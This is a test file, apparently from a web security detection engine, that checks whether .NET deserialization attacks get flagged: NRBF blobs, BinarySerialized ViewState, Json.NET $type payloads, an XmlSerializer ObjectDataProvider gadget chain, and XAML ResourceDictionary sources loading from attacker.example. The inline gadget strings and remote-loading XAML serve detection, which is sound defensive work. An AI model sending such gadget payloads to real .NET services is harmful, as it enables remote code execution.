/**
 * Evasion checklist E (items 65-72): .NET formatters, through the real
 * engine. NRBF and ViewState payloads are the .NET tests' fixtures
 * (test/fixtures/dotnet, hand-built from MS-NRBF and the ObjectStateFormatter
 * token list); text payloads are ysoserial.net-shaped (test/engine/dotnet/
 * text-payloads.ts). Detector-level tests: test/engine/dotnet/*.test.ts.
 */
import { describe, expect, it } from 'vitest';
import { fixture } from '../dotnet/helpers.js';
import { JSON_ATTACKS, NDCS_TYPECONFUSE } from '../dotnet/text-payloads.js';
import { b64, enc, FORM, JSON_CT, rules } from './harness.js';

const tcd = fixture('nrbf_typeconfusedelegate');
const PF = 'PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35';

describe('E. .NET', () => {
  it('E65: NRBF in base64 not at offset 0 (ABAAAA/////wEA..., AQAAAP////8BAAAA...)', () => {
    for (const prefix of ['x', 'xy', 'hello, ']) {
      const text = b64(Buffer.concat([enc(prefix), tcd]));
      expect(text.includes(prefix.length % 3 === 1 ? 'ABAAAA/////wEAAAAAAAAA' : 'AQAAAP////8BAAAAAAAAA'), prefix).toBe(true);
      expect(rules(`state=${encodeURIComponent(text)}`, { contentType: FORM }), prefix).toContain('DW-DOTNET-002');
      // The same base64 after unrelated text in one value (realigned by the alignment-safe anchors).
      expect(rules(`token:${b64(Buffer.concat([enc(prefix), tcd]))}`, { contentType: 'text/plain' }), prefix).toContain('DW-DOTNET-002');
    }
  });

  it('E66: a /wEy (BinarySerialized) __VIEWSTATE in an ordinary-looking postback; /wEP page state passes', () => {
    const post = (vs: Buffer) => `__EVENTTARGET=&__EVENTARGUMENT=&__VIEWSTATE=${encodeURIComponent(vs.toString('base64'))}&__VIEWSTATEGENERATOR=CA0B0334&ctl00%24txtName=Dmitri`;
    expect(fixture('viewstate_binaryserialized').toString('base64').startsWith('/wEy')).toBe(true);
    expect(rules(post(fixture('viewstate_binaryserialized')), { contentType: FORM })).toEqual(expect.arrayContaining(['DW-DOTNET-003']));
    expect(rules(post(fixture('viewstate_nested_blob')), { contentType: FORM })).toContain('DW-DOTNET-003');
    expect(rules(post(fixture('viewstate_gadget_type')), { contentType: FORM }).length).toBeGreaterThan(0);
    expect(rules(post(fixture('viewstate_benign')), { contentType: FORM })).toEqual([]);
  });

  it('E67: Json.NET $type in single quotes, with comments, as \\u0024type, with spaced or partial assembly names', () => {
    for (const k of ['single quotes (ysoserial.net template)', 'comments', 'escaped key and value', 'spacing in the assembly name', 'unquoted key']) {
      expect(rules(JSON_ATTACKS[k]!, { contentType: 'text/plain' }), k).toContain('DW-DOTNET-004');
    }
    expect(rules(`{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}`, { contentType: JSON_CT })).toContain('DW-DOTNET-004');
  });

  it('E68: $type not the first property (MetadataPropertyHandling.ReadAhead)', () => {
    expect(rules(JSON_ATTACKS['$type not first']!, { contentType: JSON_CT })).toContain('DW-DOTNET-004');
  });

  it('E69: other type keys: __type, $types (fastJSON), z:Type/z:Assembly (NetDataContractSerializer), XmlSerializer ExpandedWrapper', () => {
    expect(rules(JSON_ATTACKS['JavaScriptSerializer __type']!, { contentType: JSON_CT })).toContain('DW-DOTNET-004');
    expect(rules(JSON_ATTACKS['DataContractJsonSerializer __type']!, { contentType: JSON_CT })).toContain('DW-DOTNET-004');
    expect(rules(JSON_ATTACKS['fastJSON $types']!, { contentType: JSON_CT })).toContain('DW-DOTNET-004');
    expect(rules(NDCS_TYPECONFUSE, { contentType: 'application/xml' })).toContain('DW-DOTNET-005');
    const xmlser = `<root type="System.Data.Services.Internal.ExpandedWrapper\`2[[System.Web.UI.LosFormatter, System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a],[System.Windows.Data.ObjectDataProvider, ${PF}]], System.Data.Services, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"><ExpandedWrapperOfLosFormatterObjectDataProvider><ProjectedProperty0><ObjectInstance xsi:type="LosFormatter"/><MethodName>Deserialize</MethodName></ProjectedProperty0></ExpandedWrapperOfLosFormatterObjectDataProvider></root>`;
    expect(rules(xmlser, { contentType: 'application/xml' })).toContain('DW-DOTNET-005');
  });

  it('E70: XAML ResourceDictionary Source="http://..." (no ObjectDataProvider string)', () => {
    const xaml = '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" Source="http://attacker.example/evil.xaml"/>';
    expect(rules(xaml, { contentType: 'application/xaml+xml' })).toContain('DW-DOTNET-006');
    const merged = '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"><ResourceDictionary.MergedDictionaries><ResourceDictionary Source="\\\\attacker.example\\share\\x.xaml"/></ResourceDictionary.MergedDictionaries></ResourceDictionary>';
    expect(rules(merged, { contentType: 'text/plain' })).toContain('DW-DOTNET-006');
  });

  it('E71: assembly-name spoofing in NRBF (DataSetTypeSpoof): judged by type name, not by the library it claims', () => {
    expect(rules(fixture('nrbf_dataset_spoofed'), { contentType: 'application/octet-stream' })).toContain('DW-DOTNET-002');
  });

  it('E72: bridge gadgets: an inner BinaryFormatter or XAML payload inside another formatter', () => {
    // TextFormattingRunProperties carries XAML; ClaimsIdentity/WindowsIdentity/DataSet carry base64 or binary NRBF.
    expect(rules(fixture('nrbf_textformattingrunproperties'), { contentType: 'application/octet-stream' })).toEqual(expect.arrayContaining(['DW-DOTNET-002', 'DW-DOTNET-006']));
    for (const n of ['nrbf_claimsidentity', 'nrbf_windowsidentity', 'nrbf_dataset', 'nrbf_activitysurrogate']) {
      expect(rules(b64(fixture(n)), { contentType: 'text/plain' }), n).toContain('DW-DOTNET-002');
    }
    expect(rules(JSON_ATTACKS['WindowsIdentity with bootstrap context']!, { contentType: JSON_CT })).toContain('DW-DOTNET-004');
  });

  it('benign: an NRBF stream of application types and a method call to an app type are still BinaryFormatter (DW-DOTNET-001 only)', () => {
    expect(rules(fixture('nrbf_benign_app'), { contentType: 'application/octet-stream' })).toEqual(['DW-DOTNET-001']);
  });
});
